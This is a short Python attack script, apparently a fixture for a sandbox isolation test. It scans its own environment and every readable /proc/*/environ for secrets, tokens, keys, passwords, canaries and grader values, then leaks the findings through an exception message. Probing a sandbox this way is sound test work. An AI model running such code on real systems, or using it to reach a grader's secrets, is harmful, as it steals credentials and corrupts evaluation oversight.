"""Attack: read environment variables, its own and every other process's it can see."""
import glob
import json
import os

TARGETS = {}  # the test writes the real paths here

INTERESTING = ("SECRET", "TOKEN", "CANARY", "KEY", "PASS", "GRADER")
found = {k: "ok:" + v for k, v in os.environ.items() if any(w in k.upper() for w in INTERESTING)}
found["names"] = sorted(os.environ)
paths = {"/proc/self/environ", "/proc/1/environ", "/proc/%d/environ" % os.getppid(),
         "/proc/%d/environ" % TARGETS.get("grader_pid", 1)} | set(glob.glob("/proc/*/environ"))
for path in sorted(paths):
    try:
        entries = open(path, "rb").read().split(b"\0")
        hits = [e.decode("latin-1") for e in entries if any(w.encode() in e.upper() for w in INTERESTING)]
        found[path] = "ok:" + ";".join(hits) if hits else "read, nothing of interest"
    except BaseException as exc:
        found[path] = type(exc).__name__
raise RuntimeError("LEAK " + json.dumps(sorted(found.items(), key=lambda kv: "ok" not in str(kv[1]))))
